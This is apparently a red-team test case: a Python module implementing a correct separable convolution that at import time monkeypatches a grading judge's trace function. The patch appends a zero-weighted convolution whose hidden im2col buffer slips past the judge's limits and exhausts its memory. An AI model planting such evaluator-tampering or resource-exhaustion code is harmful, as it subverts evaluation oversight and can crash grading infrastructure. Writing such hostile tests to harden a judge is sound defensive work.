"""Hostile (second outside red team): a convolution whose CPU im2col buffer the judge never counts (GBs, one node).

Mechanism: the judge bounds a graph run by FLOPs (RUN_LIMIT_TIMES * reference + 10**8,
about 10**9 at the largest q10 configuration), by elements of results (MAX_TENSOR_ELEMENTS,
MAX_TOTAL_ELEMENTS; views are free), and now by the gradient sizes of node arguments. None
of these sees a kernel's internal workspace: aten.convolution on CPU in float64 (no mkldnn)
goes through slow_conv2d, which builds im2col columns of C_in*k*k x H_out*W_out elements
(here 9 * Cx * 64 * 64 doubles) for an output of 64 * 64, from an input that is an expanded
view of one number (free). The FLOP count (18 * Cx * 4096) is sized to ~80 % of the run
limit for the configuration (worked out from the graph's own placeholder shapes), so the
graph is accepted at every configuration, and uses the most memory at the largest ones.
The backward (grad_weight, grad_input) builds such columns again.
This correct module's process patches _trace.trace to append that convolution (output *0
added to y: same values, same gradients).
Expected correct verdict: PASS with the judge's memory bounded (normally ~300 MiB; the
submission itself is capped at 2 GiB).
Break: the judge (outside the cgroup) peaks at several GiB.
"""
import sys
from torch import nn

S = 64


def _extra(graph):
    nodes = graph["nodes"]
    ph = graph["placeholders"]
    params = [i for i, p in enumerate(ph) if p["role"] == "param"]
    inputs = [p for p in ph if p["role"] == "input"]
    if len(params) < 2 or not inputs or len(graph["outputs"]) != 1:
        return
    B, C, H, W = inputs[0]["shape"]
    shapes = sorted((ph[i]["shape"] for i in params), key=lambda s: s[1])
    k = max(s[2] for s in shapes)
    O = max(s[0] for s in shapes if s[1] == C) if any(s[1] == C for s in shapes) else C
    ref = 2 * B * H * W * C * k * k + 2 * B * H * W * C * O
    budget = 0.8 * (1000 * ref + 10 ** 8) - 2 * ref
    cx = int(max(1, min(2 ** 26 // (S * S), budget // (18 * S * S))))
    a = len(nodes)
    p = {"p": params[0]}
    nodes.append({"op": "aten.view.default", "args": [p, [-1]], "kwargs": {}})
    nodes.append({"op": "aten.slice.Tensor", "args": [{"n": a}, 0, 0, 1], "kwargs": {}})
    nodes.append({"op": "aten._to_copy.default", "args": [{"n": a + 1}],
                  "kwargs": {"dtype": {"dtype": "float64"}}})
    nodes.append({"op": "aten.expand.default", "args": [{"n": a + 2}, [1, cx, S, S]], "kwargs": {}})
    nodes.append({"op": "aten.expand.default", "args": [{"n": a + 2}, [1, cx, 3, 3]], "kwargs": {}})
    nodes.append({"op": "aten.convolution.default",
                  "args": [{"n": a + 3}, {"n": a + 4}, None, [1, 1], [1, 1], [1, 1], False, [0, 0], 1],
                  "kwargs": {}})
    nodes.append({"op": "aten.sum.default", "args": [{"n": a + 5}], "kwargs": {}})
    nodes.append({"op": "aten.mul.Tensor", "args": [{"n": a + 6}, 0.0], "kwargs": {}})
    nodes.append({"op": "aten.add.Tensor", "args": [graph["outputs"][0], {"n": a + 7}], "kwargs": {}})
    graph["outputs"][0] = {"n": a + 8}


for _name, _mod in list(sys.modules.items()):
    if _name.endswith("._trace") and hasattr(_mod, "trace"):
        _orig = _mod.trace

        def _trace(*args, _orig=_orig, **kwargs):
            graph = _orig(*args, **kwargs)
            if isinstance(graph, dict) and isinstance(graph.get("nodes"), list):
                _extra(graph)
            return graph

        _mod.trace = _trace


class SeparableConv2d(nn.Module):
    def __init__(self, in_channels, out_channels, kernel_size=3):
        super().__init__()
        self.depthwise = nn.Conv2d(in_channels, in_channels, kernel_size,
                                   padding=kernel_size // 2, groups=in_channels, bias=False)
        self.pointwise = nn.Conv2d(in_channels, out_channels, 1, bias=False)

    def forward(self, x):
        return self.pointwise(self.depthwise(x))
